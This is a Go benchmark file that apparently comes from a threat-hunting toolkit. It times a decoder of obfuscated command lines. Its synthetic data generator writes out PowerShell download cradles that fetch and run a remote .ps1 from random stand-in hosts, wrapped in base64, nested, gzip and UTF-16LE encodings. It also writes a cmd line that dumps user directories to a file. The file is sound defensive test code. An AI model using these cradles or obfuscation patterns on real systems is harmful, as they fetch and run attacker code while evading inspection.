package decode

import (
	"encoding/base64"
	"fmt"
	"math/rand"
	"testing"

	"github.com/huntkit/huntkit/frame"
)

// synthLines builds command lines in the style of gen_data.py b64: plain, base64 UTF-8,
// nested base64, gzip and UTF-16LE payloads.
func synthLines(n int) []string {
	r := rand.New(rand.NewSource(7))
	word := func(k int) string {
		b := make([]byte, k)
		for i := range b {
			b[i] = byte('a' + r.Intn(26))
		}
		return string(b)
	}
	enc := func(b []byte) string { return base64.StdEncoding.EncodeToString(b) }
	out := make([]string, n)
	for i := range out {
		script := fmt.Sprintf("IEX (New-Object Net.WebClient).DownloadString('http://%s.com/%s.ps1'); Invoke-%s -Id %d", word(7), word(6), word(5), r.Intn(1e6))
		switch i % 5 {
		case 0:
			out[i] = fmt.Sprintf("C:\\Windows\\System32\\cmd.exe /c dir C:\\Users\\%s /s /b > C:\\Temp\\%s.txt", word(6), word(6))
		case 1:
			out[i] = "powershell.exe -NoP -NonI -W Hidden -Enc " + enc([]byte(script))
		case 2:
			out[i] = "cmd.exe /c powershell.exe -e " + enc([]byte("powershell -enc "+enc([]byte(script))))
		case 3:
			out[i] = "powershell -c \"$s=New-Object IO.MemoryStream(,[Convert]::FromBase64String('" + enc(gz([]byte(script), "")) + "'))\""
		default:
			out[i] = "powershell.exe -EncodedCommand " + enc(utf16le(script))
		}
	}
	return out
}

func BenchmarkDecodeLine(b *testing.B) {
	lines := synthLines(1000)
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		_, _ = Decode(lines[i%len(lines)])
	}
}

func BenchmarkDecodeFrame(b *testing.B) {
	lines := synthLines(20000)
	f := frame.MustNew(frame.NewStrings("c", lines))
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		if _, err := DecodeFrame(f, "c"); err != nil {
			b.Fatal(err)
		}
	}
	b.ReportMetric(float64(len(lines))*float64(b.N)/b.Elapsed().Seconds(), "lines/s")
}
